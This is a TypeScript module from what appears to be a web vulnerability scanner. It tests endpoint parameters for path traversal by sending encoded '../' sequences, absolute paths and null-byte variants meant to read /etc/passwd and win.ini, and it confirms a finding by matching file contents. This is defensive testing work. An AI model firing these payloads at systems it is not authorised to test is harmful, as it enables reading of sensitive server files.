/**
 * Path traversal, sent with raw paths (the request target is written byte for byte, so `../` reaches the server):
 * plain, URL-encoded, double-encoded, `....//` and absolute forms, in query/body values that look like file
 * names and in path segments. The oracle is file content (`/etc/passwd`'s root line, `win.ini`'s sections),
 * never a status code.
 */
import type { DastRun } from '../context.js';
import type { Endpoint, Param } from '../endpoints.js';
import type { Res } from '../http/client.js';

/** File-content oracles: [file, regex]. */
const ORACLES: [string, string, RegExp][] = [
  ['etc/passwd', '/etc/passwd', /root:[x*!]?:0:0:/],
  ['windows/win.ini', 'C:\\windows\\win.ini', /\[(?:fonts|extensions)\][\s\S]{0,200}\[(?:files|mci extensions|extensions)\]/i],
];

const DEPTH = 8;

/** Traversal payloads for a file at `rel` (`etc/passwd`): [payload, raw]. */
function payloads(rel: string, abs: string, inPath: boolean): [string, boolean][] {
  const up = '../'.repeat(DEPTH);
  const out: [string, boolean][] = [
    [`${up}${rel}`, true],
    [`${'..%2f'.repeat(DEPTH)}${rel.replace(/\//g, '%2f')}`, true],
    [`${'%2e%2e%2f'.repeat(DEPTH)}${rel}`, true],
    [`${'....//'.repeat(DEPTH)}${rel}`, true],
    [`${'..%252f'.repeat(DEPTH)}${rel}`, true],
    [`${'..\\'.repeat(DEPTH)}${rel.replace(/\//g, '\\')}`, false],
  ];
  if (!inPath) out.push([abs, false], [`${up}${rel}%00.png`, true]);
  return out;
}

/** Path traversal in one parameter. */
export async function checkTraversal(run: DastRun, e: Endpoint, p: Param, base: Res): Promise<void> {
  if (!run.enabled('dast-path-traversal') || typeof p.value !== 'string' && typeof p.value !== 'number') return;
  const v = String(p.value);
  const looksLikeFile = /[./\\]|^(file|path|page|doc|document|template|name|filename|img|image|download|include|dir|folder|load|read|view|style|lang)/i.test(`${v} ${p.name}`) || /file|path|page|doc|template|name|dir|folder|load|read|include|view/i.test(p.name);
  if (!looksLikeFile && p.in !== 'path') return;
  for (const [rel, abs, oracle] of ORACLES) {
    if (oracle.test(base.body)) continue;
    for (const [payload, raw] of payloads(rel, abs, p.in === 'path')) {
      const res = await run.probe(e, { param: p, value: p.in === 'path' ? payload.replace(/^\.\.\//, '../') : payload, raw: raw || p.in === 'path' });
      const m = res && oracle.exec(res.body);
      if (!res || !m) continue;
      run.report('dast-path-traversal', {
        endpoint: e,
        param: p,
        message: `${p.in} parameter ${p.name} of ${e.method} ${e.pathTemplate} reads files outside its folder: ${JSON.stringify(payload)} returned the content of ${abs}.`,
        res,
        proof: m[0],
        data: { payload, file: abs },
      });
      return;
    }
  }
}
